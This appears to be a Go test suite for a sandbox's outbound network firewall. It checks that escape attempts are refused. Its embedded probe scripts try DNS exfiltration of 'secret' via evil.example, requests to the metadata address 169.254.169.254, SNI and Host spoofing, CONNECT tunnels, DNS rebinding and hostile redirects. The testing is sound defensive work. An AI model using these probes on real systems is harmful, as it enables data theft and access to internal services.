package client_test

import (
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gorilla/websocket"

	"github.com/garita-dev/garita/sandbox"
	"github.com/garita-dev/garita/sandbox/engine/client"
)

// hello answers with the host that was asked for.
func hello(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain")
	_, _ = io.WriteString(w, "hello from "+r.Host)
}

// registryAndGit is enough of both for their clients.
func registryAndGit(w http.ResponseWriter, r *http.Request) {
	switch {
	case strings.HasPrefix(r.URL.Path, "/repo.git/info/refs"):
		w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
		_, _ = io.WriteString(w, "001e# service=git-upload-pack\n0000"+pktLine("95dcfa3633004da0049d3d0fa03f80589cbcaf31 HEAD\x00multi_ack\n")+"0000")
	case r.URL.Path == "/some-package":
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"name":"some-package","dist-tags":{"latest":"1.2.3"},"versions":{"1.2.3":{"name":"some-package","version":"1.2.3","dist":{}}}}`)
	default:
		hello(w, r)
	}
}

func pktLine(text string) string { return fmt.Sprintf("%04x%s", len(text)+4, text) }

// attempts are what a program with raw sockets, and other resolvers, tries. Each prints "refused".
const attempts = `
import socket, sys, time
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5)
    try:
        s.connect((host, port)); print("PASSED tcp", host, port)
    except OSError as e:
        print("refused", host, port, type(e).__name__)
def udp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.connect((host, port)); s.send(b"x"*30); s.recv(100); print("PASSED udp", host, port)
    except OSError as e:
        print("refused udp", host, port, type(e).__name__)
def raw(kind, proto):
    try:
        s = socket.socket(*kind, proto); s.sendto(b"\x08\0\0\0\0\0\0\0", ("8.8.8.8", 0)); s.settimeout(1); s.recv(100); print("PASSED raw", proto)
    except OSError as e:
        print("refused raw", proto, type(e).__name__)
began = time.time()
for host in ("169.254.169.254", "10.0.0.1", "192.168.1.1", "127.0.0.1", "198.18.0.1", "198.18.99.99", "8.8.8.8", "1.1.1.1"):
    tcp(host, 80); tcp(host, 443)
tcp("8.8.8.8", 53); tcp("1.1.1.1", 853)
for host in ("::1", "2001:4860:4860::8888", "fd67:6172:6974::1", "::ffff:169.254.169.254"):
    tcp(host, 443, socket.AF_INET6)
for port in (53, 443, 123): udp("8.8.8.8", port)
udp("2001:4860:4860::8888", 53, socket.AF_INET6); udp("198.18.0.1", 5353)
raw((socket.AF_INET, socket.SOCK_RAW), 1); raw((socket.AF_INET, socket.SOCK_DGRAM), 1); raw((socket.AF_INET, socket.SOCK_RAW), 255)
print("SECONDS", round(time.time() - began, 1))
`

// script writes a program where the sandbox can read it.
func script(text string) string {
	return "echo " + base64.StdEncoding.EncodeToString([]byte(text)) + " | base64 -d > /tmp/s.py; /usr/bin/python3 /tmp/s.py"
}

func TestWhateverIsTriedWithoutAName(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	t.Run("attack_H43", func(t *testing.T) {
		in := w.settle(e, sandbox.Allowlist{PublicWeb: true})
		in.await("the network", func(e client.NetworkEvent) bool { return e.Attached })
		got := in.run(script(attempts))
		t.Log(strings.ReplaceAll(got, " refused", "\n refused"))
		if strings.Contains(got, "PASSED") || !strings.Contains(got, "SECONDS") {
			t.Errorf("got %s%s", got, in.story())
		}
		if strings.Contains(got, "TimeoutError") || strings.Contains(got, "timeout") {
			t.Error("something was not refused at once")
		}
		in.denied(sandbox.DeniedAddress, "169.254.169.254", 80)
		in.denied(sandbox.DeniedAddress, "10.0.0.1", 443)
		in.denied(sandbox.DeniedProtocol, "8.8.8.8", 53)
		in.denied(sandbox.DeniedProtocol, "1.1.1.1", 853)
		in.denied(sandbox.DeniedAddress, "2001:4860:4860::8888", 443)
		in.denied(sandbox.DeniedProtocol, "8.8.8.8", 443)
	})
	if asked := w.lookedUp(); len(asked) > 0 {
		t.Errorf("looked up: %v", asked)
	}
}

// carriers look up what would carry data out, in every way there is.
const carriers = `
import socket, struct
def query(name, kind):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    return q
def rcode(a): return a[3] & 15, struct.unpack(">H", a[6:8])[0]
for kind in (1, 28, 16, 5, 12, 15, 33, 65, 255):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(query("c2VjcmV0.evil.example", kind), ("198.18.0.1", 53))
    print("udp", kind, rcode(s.recv(4096)))
    t = socket.create_connection(("198.18.0.1", 53), 3); q = query("c2VjcmV0.evil.example", kind); t.sendall(struct.pack(">H", len(q)) + q)
    n = struct.unpack(">H", t.recv(2))[0]; print("tcp", kind, rcode(t.recv(n)))
for host in ("c2VjcmV0.allowed.example.test", "c2VjcmV0.evil.example"):
    try: print(socket.getaddrinfo(host, 443))
    except OSError as e: print("refused", host, e)
for host in ("dns.google", "cloudflare-dns.com"):
    try: socket.create_connection((host, 443), 3); print("PASSED", host)
    except OSError as e: print("refused", host)
`

func TestNamesCarryNothingOut(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	t.Run("report_N05", func(t *testing.T) {
		l := rules(t, "allowed.example.test")
		in := w.settle(e, l)
		in.await("the network", func(e client.NetworkEvent) bool { return e.Attached })
		got := in.run(script(carriers))
		if strings.Contains(got, "PASSED") || strings.Count(got, "(3, 0)") != 18 || strings.Count(got, "refused") != 4 {
			t.Errorf("got %s", got)
		}
		in.denied(sandbox.DeniedName, "c2vjcmv0.evil.example", 0)
		in.denied(sandbox.DeniedName, "dns.google", 0)
	})
	if asked := w.lookedUp(); len(asked) > 0 {
		t.Errorf("looked up: %v", asked)
	}
}

func TestRulesHoldInARealSandbox(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	w.web("127.77.0.1", http.HandlerFunc(hello))
	database := w.listen("127.77.0.2", 5432)
	go greet(database, "")
	for name, ip := range map[string]string{
		"api.example.test": "127.77.0.1", "db.example.test": "127.77.0.2", "a.b.tracker.example": "127.77.0.1", "tracker.example": "127.77.0.1",
	} {
		w.name(name, ip)
	}
	t.Run("report_N04", func(t *testing.T) {
		in := w.settle(e, rules(t, "api.example.test", "db.example.test:5432"))
		for line, want := range map[string]string{
			"curl -sk https://api.example.test/":                      "hello from api.example.test",
			"curl -sk http://api.example.test/ || echo refused":       "refused",
			"curl -sk https://api.example.test:9999/ || echo refused": "refused",
			"curl -sk https://db.example.test/ || echo refused":       "refused",
			`/usr/bin/python3 -c 'import socket; s=socket.create_connection(("db.example.test",5432)); s.sendall(b"\0\0\0\x08ping\n"); print(s.recv(100))'`: `b'\x00\x00\x00\x08ping\n'`,
		} {
			if got := in.run(line); got != want {
				t.Errorf("%s: %s%s", line, got, in.story())
			}
		}
	})
	t.Run("report_N08", func(t *testing.T) {
		in := w.settle(e, rules(t, "*.tracker.example"))
		if got := in.run("curl -sk https://a.b.tracker.example/"); got != "hello from a.b.tracker.example" {
			t.Errorf("below: %s%s", got, in.story())
		}
		if got := in.run("curl -sk https://tracker.example/ || echo refused"); got != "refused" {
			t.Errorf("itself: %s", got)
		}
		if d := in.denied(sandbox.DeniedName, "tracker.example", 0); d.Propose != "tracker.example:443" || !strings.Contains(d.Why, "does not include") {
			t.Errorf("the denial: %+v", d)
		}
	})
}

// greet answers connections with what they say, after words of its own.
func greet(l net.Listener, words string) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			_, _ = io.WriteString(c, words)
			_, _ = io.Copy(c, c)
		}()
	}
}

func TestConnectionsShowTheirName(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	w.web("127.77.0.1", http.HandlerFunc(hello))
	ftp := w.listen("127.77.0.2", 2121)
	go greet(ftp, "220 ready\r\n")
	for _, name := range []string{"api.example.test", "evil.example.test"} {
		w.name(name, "127.77.0.1")
	}
	w.name("ftp.example.test", "127.77.0.2")
	in := w.settle(e, rules(t, "api.example.test", "api.example.test:80", "ftp.example.test:2121"))
	for name, c := range map[string]struct{ line, want string }{
		"another name in the hello":    {`echo | openssl s_client -connect api.example.test:443 -servername evil.example.test 2>&1 | grep -c 'BEGIN CERT'`, "0"},
		"no name in the hello":         {`echo | openssl s_client -connect api.example.test:443 -noservername 2>&1 | grep -c 'BEGIN CERT'`, "0"},
		"the right name in the hello":  {`echo | openssl s_client -connect api.example.test:443 -servername API.example.TEST 2>&1 | grep -c 'BEGIN CERT'`, "1"},
		"another name in Host":         {`curl -s -o /dev/null -w '%{http_code}' -H 'Host: evil.example.test' http://api.example.test/`, "421"},
		"another name in the second":   {`/usr/bin/python3 -c 'import http.client as h; c=h.HTTPConnection("api.example.test"); c.request("GET","/"); print(c.getresponse().read()); c.request("GET","/",headers={"Host":"evil.example.test"}); print(c.getresponse().status)'`, "b'hello from api.example.test' 421"},
		"another name as the target":   {`/usr/bin/python3 -c 'import socket; s=socket.create_connection(("api.example.test",80)); s.sendall(b"GET http://evil.example.test/ HTTP/1.1\r\nHost: api.example.test\r\n\r\n"); print(s.recv(100).split()[1])'`, "b'421'"},
		"a tunnel":                     {`/usr/bin/python3 -c 'import socket; s=socket.create_connection(("api.example.test",80)); s.sendall(b"CONNECT evil.example.test:443 HTTP/1.1\r\nHost: api.example.test\r\n\r\n"); print(s.recv(100).split()[1])'`, "b'421'"},
		"neither TLS nor HTTP":         {`/usr/bin/python3 -c 'import socket; s=socket.create_connection(("api.example.test",443)); s.sendall(b"\0\1\2 something\n"); print(s.recv(100))' 2>&1 | tail -1 | grep -o 'ConnectionResetError'`, "ConnectionResetError"},
		"a server that speaks first":   {`/usr/bin/python3 -c 'import socket; s=socket.create_connection(("ftp.example.test",2121)); print(s.recv(100)); s.sendall(b"USER x\r\n"); print(s.recv(100))'`, `b'220 ready\r\n' b'USER x\r\n'`},
		"HTTP/2":                       {`curl -sk --http2 -o /dev/null -w '%{http_version}' https://api.example.test/`, "2"},
		"an offer of HTTP/2, in clear": {`curl -s --http2 -o /dev/null -w '%{http_code} %{http_version}' http://api.example.test/`, "200 1.1"},
		"another upgrade, in clear":    {`curl -s -o /dev/null -w '%{http_code}' -H 'Connection: Upgrade' -H 'Upgrade: tunnel' http://api.example.test/`, "421"},
		"another name, other protocol": {`echo | openssl s_client -connect ftp.example.test:2121 -servername evil.example.test 2>&1 | grep -c 'BEGIN CERT'`, "0"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := in.run(c.line); got != c.want {
				t.Errorf("%s\n got %s\nwant %s%s", c.line, got, c.want, in.story())
			}
		})
	}
	in.denied(sandbox.DeniedContent, "api.example.test", 443)
	in.denied(sandbox.DeniedContent, "api.example.test", 80)
	in.denied(sandbox.DeniedContent, "ftp.example.test", 2121)
}

func TestRebinding(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	secret, reached := w.listen("127.0.0.1", 443), make(chan struct{}, 8)
	go func() {
		for {
			if c, err := secret.Accept(); err == nil {
				reached <- struct{}{}
				_ = c.Close()
				continue
			}
			return
		}
	}()
	at := w.host.Ports[443]
	w.web("127.77.0.1", http.HandlerFunc(hello))
	in := w.settle(e, rules(t, "flip.example.test", "inner.example.test", "flip.example.test:8001"))
	_ = at
	for _, ip := range []string{"127.0.0.1", "169.254.169.254", "10.9.8.7", "0.0.0.0", "100.64.3.2", "198.18.0.1", "192.168.0.9"} {
		w.name("inner.example.test", ip)
		if got := in.run("curl -sk -m 5 https://inner.example.test/ || echo refused"); got != "refused" {
			t.Errorf("%s: %s", ip, got)
		}
		in.await("a denial of "+ip, func(e client.NetworkEvent) bool {
			return e.Denied != nil && e.Denied.Kind == sandbox.DeniedResolved && e.Denied.Address == ip
		})
	}
	for range 20 { // the check sees the good address, the next answer is bad, and back
		w.name("flip.example.test", "127.77.0.1", "127.0.0.1", "127.77.0.1", "169.254.169.254")
		for range 4 {
			if got := in.run("curl -sk -m 5 https://flip.example.test/ || echo refused"); got != "refused" && got != "hello from flip.example.test" {
				t.Fatalf("got %s", got)
			}
		}
	}
	select {
	case <-reached:
		t.Error("loopback was reached")
	default:
	}
}

func TestRedirectsAreNewDecisions(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	w.web("127.77.0.1", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/chain":
			http.Redirect(rw, r, "https://second.example.test"+"/"+r.URL.RawQuery, http.StatusFound)
		case "/meta":
			http.Redirect(rw, r, "http://169.254.169.254/latest/meta-data/", http.StatusFound)
		case "/loop":
			http.Redirect(rw, r, "http://127.0.0.1/", http.StatusTemporaryRedirect)
		case "/named":
			http.Redirect(rw, r, "http://inner.example.test/", http.StatusFound)
		default:
			hello(rw, r)
		}
	}))
	for name, ip := range map[string]string{"api.example.test": "127.77.0.1", "second.example.test": "127.77.0.1", "inner.example.test": "169.254.169.254"} {
		w.name(name, ip)
	}
	in := w.settle(e, rules(t, "api.example.test", "second.example.test", "inner.example.test:80"))
	for _, path := range []string{"/chain?meta", "/chain?loop", "/chain?named", "/meta", "/loop"} {
		if got := in.run("curl -skL -m 5 'https://api.example.test" + path + "' || echo stopped"); !strings.HasSuffix(got, "stopped") || strings.Contains(got, "hello") {
			t.Errorf("%s: %s", path, got)
		}
	}
	in.denied(sandbox.DeniedAddress, "169.254.169.254", 80)
	in.denied(sandbox.DeniedResolved, "inner.example.test", 80)
}

func TestWebSockets(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	upgrader := websocket.Upgrader{}
	w.web("127.77.0.1", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		c, err := upgrader.Upgrade(rw, r, nil)
		if err != nil {
			return
		}
		defer c.Close()
		for {
			kind, data, err := c.ReadMessage()
			if err != nil || c.WriteMessage(kind, data) != nil {
				return
			}
		}
	}))
	w.name("ws.example.test", "127.77.0.1")
	in := w.settle(e, rules(t, "ws.example.test", "ws.example.test:80"))
	t.Run("report_N13", func(t *testing.T) {
		for _, scheme := range []string{"wss", "ws"} {
			if got := in.run(script(strings.ReplaceAll(webSocketClient, "SCHEME", scheme))); got != "text binary pong close" {
				t.Errorf("%s: %s%s", scheme, got, in.story())
			}
		}
		for _, port := range []uint16{443, 80} {
			in.await(fmt.Sprintf("the bytes at port %d", port), func(e client.NetworkEvent) bool {
				return e.Ended != nil && e.Ended.Port == port && e.Ended.Sent > 1<<20 && e.Ended.Received > 1<<20
			})
		}
	})
}

// webSocketClient speaks RFC 6455: text, 1 MiB binary, ping, close.
const webSocketClient = `
import socket, ssl, os, struct
s = socket.create_connection(("ws.example.test", 443 if "SCHEME" == "wss" else 80))
if "SCHEME" == "wss": s = ssl._create_unverified_context().wrap_socket(s, server_hostname="ws.example.test")
s.sendall(b"GET / HTTP/1.1\r\nHost: ws.example.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
f = s.makefile("rb")
assert b"101" in f.readline()
while f.readline().strip(): pass
def send(op, data):
    n = len(data); head = bytes([0x80 | op]) + (bytes([0x80 | n]) if n < 126 else bytes([0xff]) + struct.pack(">Q", n))
    s.sendall(head + b"\0\0\0\0" + data)
def recv():
    a, b = f.read(2); n = b & 127
    if n == 126: n = struct.unpack(">H", f.read(2))[0]
    if n == 127: n = struct.unpack(">Q", f.read(8))[0]
    return a & 15, f.read(n)
send(1, b"hi"); assert recv() == (1, b"hi"); print("text")
big = os.urandom(1 << 20); send(2, big)
out = b""
while len(out) < len(big):
    op, data = recv(); out += data
assert out == big; print("binary")
send(9, b"p"); assert recv() == (10, b"p"); print("pong")
send(8, struct.pack(">H", 1000)); assert recv()[0] == 8; print("close")
`

func TestServicesOfThisMachine(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	four, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer four.Close()
	go greet(four, "four\n")
	other, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	port := func(l net.Listener) uint16 { return uint16(l.Addr().(*net.TCPAddr).Port) } //nolint:errcheck,gosec // of ours
	granted := []uint16{port(four)}
	if six, err := net.Listen("tcp6", "[::1]:0"); err == nil {
		defer six.Close()
		go greet(six, "six\n")
		granted = append(granted, port(six))
	}
	t.Run("report_N02", func(t *testing.T) {
		in := w.settle(e, sandbox.Allowlist{HostPorts: granted, Localhost: true})
		for i, p := range granted {
			for _, name := range []string{sandbox.HostName, "host.docker.internal", "localhost", "127.0.0.1"} {
				line := fmt.Sprintf(`/usr/bin/python3 -c 'import socket; print(socket.create_connection(("%s",%d)).recv(100).decode())'`, name, p)
				if got := in.run(line); got != []string{"four", "six"}[i] {
					t.Errorf("%s:%d: %s%s", name, p, got, in.story())
				}
			}
		}
		for _, p := range []uint16{port(other), 631, 22, 6000} {
			for _, name := range []string{sandbox.HostName, "localhost"} {
				line := fmt.Sprintf(`/usr/bin/python3 -c 'import socket; socket.create_connection(("%s",%d),3); print("PASSED")' 2>&1 | tail -1`, name, p)
				if got := in.run(line); !strings.Contains(got, "ConnectionRefused") {
					t.Errorf("%s:%d: %s", name, p, got)
				}
			}
		}
		in.denied(sandbox.DeniedPort, sandbox.HostName, port(other))
	})
}

func TestTheResolverFollowsTheHost(t *testing.T) {
	e := shared(t)
	first, second := newWorld(t), newWorld(t)
	second.web("127.77.0.1", http.HandlerFunc(hello))
	first.host.Ports = second.host.Ports
	second.name("api.example.test", "127.77.0.1")
	dir := t.TempDir()
	conf := filepath.Join(dir, "resolv.conf")
	write := func(server string) { // a new inode, as network managers do
		t.Helper()
		fresh := filepath.Join(dir, "fresh")
		if err := os.WriteFile(fresh, []byte("search corp.example\nnameserver "+server+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(fresh, conf); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	write(first.host.Resolver)
	server := second.host.Resolver
	first.host.Resolver, first.host.ResolvConf = "", conf
	t.Run("report_N16", func(t *testing.T) {
		in := first.settle(e, rules(t, "api.example.test"))
		if got := in.run("curl -sk https://api.example.test/ || echo refused"); got != "refused" {
			t.Errorf("before: %s", got)
		}
		write(server)
		if got := in.run("curl -sk https://api.example.test/ || echo refused"); got != "hello from api.example.test" {
			t.Errorf("after: %s%s", got, in.story())
		}
	})
}

func TestAskingAtTheWall(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	w.web("127.77.0.1", http.HandlerFunc(hello))
	w.name("new.example.test", "127.77.0.1")
	w.name("no.example.test", "127.77.0.1")
	in := w.settle(e, sandbox.Allowlist{Ask: true})
	answer := func(host string, allow bool) {
		asked := in.await("a question about "+host, func(e client.NetworkEvent) bool { return e.Asked != nil && e.Asked.Host == host })
		if slices.Contains(w.lookedUp(), host) {
			t.Errorf("%s was looked up before anybody answered", host)
		}
		if err := in.out.Answer(t.Context(), *asked.Asked, allow, "approved by a test"); err != nil {
			t.Error(err)
		}
	}
	go answer("new.example.test", true)
	if got := in.run("curl -sk https://new.example.test/ || echo refused"); got != "hello from new.example.test" {
		t.Errorf("yes: %s%s", got, in.story())
	}
	go answer("no.example.test", false)
	if got := in.run("curl -sk https://no.example.test/ || echo refused"); got != "refused" {
		t.Errorf("no: %s", got)
	}
	in.denied(sandbox.DeniedName, "no.example.test", 443)
	if slices.Contains(w.lookedUp(), "no.example.test") {
		t.Error("a host that was denied was looked up")
	}
}

func TestRevokingEndsOpenConnections(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	l := w.listen("127.77.0.1", 9000)
	go greet(l, "hi\n")
	w.name("long.example.test", "127.77.0.1")
	in := w.settle(e, rules(t, "long.example.test:9000"))
	go func() {
		in.await("the connection", func(e client.NetworkEvent) bool { return e.Opened != nil })
		if err := in.out.SetRules(t.Context(), rules(t, "other.example.test"), client.Outside{}); err != nil {
			t.Error(err)
		}
	}()
	got := in.run(`/usr/bin/python3 -c 'import socket; s=socket.create_connection(("long.example.test",9000)); s.recv(100); s.settimeout(15); print(s.recv(100))' 2>&1 | tail -1`)
	if !strings.Contains(got, "ConnectionReset") {
		t.Errorf("got %s%s", got, in.story())
	}
	in.await("why", func(e client.NetworkEvent) bool { return e.Ended != nil && strings.Contains(e.Ended.Why, "revoked") })
}

func TestTheWallMayCrash(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	w.web("127.77.0.1", http.HandlerFunc(hello))
	l := w.listen("127.77.0.1", 9000)
	go greet(l, "hi\n")
	w.name("api.example.test", "127.77.0.1")
	allowed := rules(t, "api.example.test", "api.example.test:9000")
	in := w.settle(e, allowed)
	address := in.run("getent hosts api.example.test | cut -d' ' -f1")
	done := make(chan string)
	go func() { // a reader, which only a reset ends
		in.await("the connection", func(e client.NetworkEvent) bool { return e.Opened != nil })
		var names []client.GivenName
		in.mu.Lock()
		for _, e := range in.seen {
			if e.Name != nil {
				names = append(names, *e.Name)
			}
		}
		in.mu.Unlock()
		if err := w.wall.Kill(); err != nil {
			t.Error(err)
		}
		<-w.wall.Done()
		w.wall = w.startWall()
		again, err := w.wall.OpenWayOut(t.Context(), client.Sandbox{ID: in.launch.ID, Rules: allowed, Names: names, Host: w.host}, in.see)
		if err != nil {
			t.Error(err)
		} else {
			t.Cleanup(func() { _ = again.Close() })
			if err := e.Reconnect(t.Context(), in.launch.ID, again.File); err != nil {
				t.Error(err)
			}
		}
		close(done)
	}()
	got := in.run(`/usr/bin/python3 -c 'import socket; s=socket.create_connection(("api.example.test",9000)); s.recv(100); s.settimeout(15); print(s.recv(100))' 2>&1 | tail -1`)
	<-done
	if !strings.Contains(got, "Connection") {
		t.Errorf("the old connection: %s", got)
	}
	if got := in.run("curl -sk --resolve api.example.test:443:" + address + " https://api.example.test/"); got != "hello from api.example.test" {
		t.Errorf("at the address that was given before: %s%s", got, in.story())
	}
}
